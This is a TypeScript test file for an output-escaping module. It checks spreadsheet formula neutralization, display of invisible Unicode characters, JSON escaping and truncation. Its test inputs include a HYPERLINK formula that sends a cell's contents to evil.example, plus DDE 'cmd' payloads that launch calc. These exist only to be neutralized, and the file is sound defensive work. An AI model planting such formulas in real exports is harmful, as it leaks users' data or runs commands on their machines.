// src/presenters/escape.ts: what every spreadsheet-bound or terminal-bound output relies on.
import fc from "fast-check";
import { boundText, escapeJsonInvisible, INVISIBLE, neutralizeFormula, showInvisible } from "../../src/presenters/escape";

describe("neutralizeFormula", () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?leak="&A2,"klik")', `'=HYPERLINK("http://evil.example/?leak="&A2,"klik")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"],
    ["- Penyediaan Gaji", "'- Penyediaan Gaji"],
  ])("%j becomes text", (input, output) => expect(neutralizeFormula(input)).toBe(output));

  test.each(["+62 812 3456 7890", "-Rp 1.000.000", "-1.000", "-12,5%", "-0.25", "Rp 1.000", "Penyediaan Gaji", "", "≤ Rp 0,00"])("%j stays as it is (a signed figure, which no spreadsheet runs, or plain text)", (s) =>
    expect(neutralizeFormula(s)).toBe(s),
  );

  test("property: the result never starts with a formula trigger unless it is a plain signed figure", () => {
    fc.assert(
      fc.property(fc.string(), (s) => {
        const out = neutralizeFormula(s);
        return !/^[=@\t\r]/.test(out) && (!/^[-+]/.test(out) || /^[-+]\s*(?:rp\.?\s*)?[\d.,\s]*\d[\d.,]*\s*%?$/i.test(out));
      }),
      { numRuns: 10_000 },
    );
  });
});

describe("showInvisible and escapeJsonInvisible", () => {
  const sample = "Nama\u202eA\u2066B\u2069\u2028C\u2029\u200bD\u200d\ufeff\u0085\u009b\u009d";
  test("bidi overrides, isolates, separators, zero-width and C1 controls are shown as [U+XXXX]", () => {
    expect(showInvisible(sample)).toBe("Nama[U+202E]A[U+2066]B[U+2069][U+2028]C[U+2029][U+200B]D[U+200D][U+FEFF][U+0085][U+009B][U+009D]");
  });
  test("JSON keeps the same strings, escaped", () => {
    const json = escapeJsonInvisible(JSON.stringify({ name: sample }));
    expect(INVISIBLE.test(json)).toBe(false);
    INVISIBLE.lastIndex = 0;
    expect(JSON.parse(json).name).toBe(sample);
  });
  test("property: no invisible character survives, and JSON round-trips", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (s) => {
        const shown = showInvisible(s);
        const json = escapeJsonInvisible(JSON.stringify(s));
        const ok = !new RegExp(INVISIBLE.source).test(shown) && !new RegExp(INVISIBLE.source).test(json) && JSON.parse(json) === s;
        return ok;
      }),
      { numRuns: 10_000 },
    );
  });
});

describe("boundText", () => {
  test("cuts with an ellipsis, never inside a surrogate pair", () => {
    expect(boundText("abcdef", 4)).toBe("abc…");
    expect(boundText("abc", 4)).toBe("abc");
    const emoji = "ab📊📊📊";
    const cut = boundText(emoji, 4);
    expect(cut.endsWith("…")).toBe(true);
    expect(/[\ud800-\udbff]…$/.test(cut)).toBe(false);
  });
  test("property: at most max characters", () => {
    fc.assert(fc.property(fc.string({ unit: "binary" }), fc.integer({ min: 1, max: 50 }), (s, max) => boundText(s, max).length <= max), { numRuns: 10_000 });
  });
});
